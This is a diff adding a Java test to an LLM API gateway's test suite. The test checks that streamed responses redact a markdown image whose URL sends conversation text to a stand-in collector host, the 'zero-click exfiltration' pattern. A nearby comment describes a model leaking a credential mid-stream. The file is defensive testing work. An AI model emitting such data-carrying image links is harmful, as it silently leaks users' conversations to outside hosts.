@@ -308,6 +308,29 @@ class ResponsesApiGatewayTest {
                 .isEqualTo("You wrote: write to [EMAIL] today");
     }
 
+    /**
+     * The zero-click exfiltration through the Responses API: an image whose URL carries the conversation is redacted in
+     * the deltas and in every event that repeats the text whole (a client may render only response.completed).
+     */
+    @Test
+    void aRemoteImageInAStreamIsRedactedInTheDeltasAndInTheEventsThatRepeatThem() throws Exception {
+        String key = gw.createKey("resp-stream-image", "invoke");
+        HttpResponse<String> r = post("/echo/v1/responses", key, new JsonObject().put("model", "mock-gpt-small")
+                .put("input", "echo: done ![status](https://collector.example.net/p.png?d=quarterly%20numbers) bye").put("stream", true));
+        assertThat(r.statusCode()).isEqualTo(200);
+        assertThat(r.body()).doesNotContain("collector", "quarterly").contains("event: response.completed\n");
+        StringBuilder deltas = new StringBuilder();
+        String done = null;
+        for (String block : r.body().split("\n\n")) {
+            if (!block.startsWith("event: ")) continue;
+            JsonObject data = new JsonObject(block.substring(block.indexOf("\ndata: ") + 7));
+            if (data.getString("type").equals("response.output_text.delta")) deltas.append(data.getString("delta"));
+            if (data.getString("type").equals("response.output_text.done")) done = data.getString("text");
+        }
+        assertThat(deltas.toString()).isEqualTo("You wrote: done [REMOTE_IMAGE] bye");
+        assertThat(done).isEqualTo("You wrote: done [REMOTE_IMAGE] bye");
+    }
+
     /** The attack: the model leaks a credential mid-stream, and the final events would repeat it whole. */
     @Test
     void aStreamThatLeaksACredentialIsCutWithAnErrorEvent() throws Exception {
